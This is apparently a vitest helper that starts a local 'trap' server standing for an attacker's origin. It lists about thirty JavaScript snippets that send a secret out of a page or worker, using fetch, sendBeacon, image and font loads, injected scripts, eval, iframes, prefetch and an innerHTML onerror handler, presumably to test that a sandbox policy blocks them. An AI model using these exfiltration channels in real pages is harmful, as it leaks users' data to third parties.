import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { onTestFinished } from 'vitest';

export interface Trap {
	/** Another origin than the site's. */
	origin: string;
	/** Whatever reached it. */
	caught: string[];
}

/** A server that stands for somebody who wants to get data out: it answers everything and writes down what comes. */
export async function setTrap(): Promise<Trap> {
	const caught: string[] = [];
	const server = createServer((request, response) => {
		caught.push(`${request.method} ${request.url}`);
		response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' });
		response.end('caught');
	});
	server.on('upgrade', (request, socket) => {
		caught.push(`socket ${request.url}`);
		socket.destroy();
	});
	await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
	onTestFinished(async () => {
		server.closeAllConnections();
		await new Promise((closed) => server.close(closed));
	});
	const { port } = server.address() as AddressInfo;
	return { origin: `http://localhost:${port}`, caught };
}

/**
 * Ways in which a script of a page could send something out; each is the body of a function of `to`.
 * Not among them: going to another address, which no policy forbids and every reader sees.
 */
export const fromPage: Record<string, string> = {
	fetch: `return fetch(to + '?secret')`,
	'fetch without asking': `return fetch(to, { mode: 'no-cors', method: 'POST', body: 'secret' })`,
	XMLHttpRequest: `return new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('GET', to); x.send(); })`,
	WebSocket: `return new Promise((done) => { const s = new WebSocket(to.replace('http', 'ws')); s.onerror = s.onopen = done; })`,
	EventSource: `return new Promise((done) => { const s = new EventSource(to); s.onerror = s.onopen = () => { s.close(); done(); }; })`,
	sendBeacon: `navigator.sendBeacon(to, 'secret')`,
	picture: `return new Promise((done) => { const i = new Image(); i.onerror = i.onload = done; i.src = to + '?secret'; })`,
	style: `return new Promise((done) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onerror = l.onload = done; l.href = to; document.head.append(l); })`,
	'picture of a style': `document.body.style.backgroundImage = 'url(' + to + ')'; getComputedStyle(document.body).backgroundImage`,
	font: `return new FontFace('x', 'url(' + to + ')').load()`,
	script: `return new Promise((done) => { const s = document.createElement('script'); s.onerror = s.onload = done; s.src = to; document.head.append(s); })`,
	'script in the page': `const s = document.createElement('script'); s.textContent = 'fetch(' + JSON.stringify(to) + ')'; document.head.append(s)`,
	'import()': `return import(to)`,
	eval: `return (0, eval)('fetch(' + JSON.stringify(to) + ')')`,
	frame: `return new Promise((done) => { const f = document.createElement('iframe'); f.onload = f.onerror = done; f.src = to; document.body.append(f); setTimeout(done, 500); })`,
	'form in a frame': `const f = document.createElement('form'); f.action = to; f.method = 'post'; f.target = '_blank'; document.body.append(f); f.submit()`,
	prefetch: `const l = document.createElement('link'); l.rel = 'prefetch'; l.href = to; document.head.append(l)`,
	preload: `const l = document.createElement('link'); l.rel = 'preload'; l.as = 'fetch'; l.href = to; document.head.append(l)`,
	'worker of a blob': `return new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(to) + ')']))); w.onerror = done; setTimeout(done, 500); })`,
	video: `return new Promise((done) => { const v = document.createElement('video'); v.onerror = done; v.src = to; v.load(); setTimeout(done, 500); })`,
	handler: `const d = document.createElement('div'); d.innerHTML = '<img src="/nothing" onerror="fetch(\\'' + to + '\\')">'; document.body.append(d)`
};

/** As `fromPage`, inside a worker. */
export const fromWorker: Record<string, string> = {
	fetch: `return fetch(to)`,
	'fetch of the prototype': `return Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, to)`,
	XMLHttpRequest: `const x = new XMLHttpRequest(); x.open('GET', to, false); x.send()`,
	WebSocket: `return new Promise((done) => { const s = new WebSocket(to.replace('http', 'ws')); s.onerror = s.onopen = done; })`,
	EventSource: `return new Promise((done) => { const s = new EventSource(to); s.onerror = s.onopen = done; })`,
	importScripts: `importScripts(to)`,
	'import()': `return import(to)`,
	Worker: `return new Promise((done) => { const w = new Worker(to); w.onerror = done; setTimeout(done, 500); })`,
	eval: `return (0, eval)('fetch(' + JSON.stringify(to) + ')')`
};
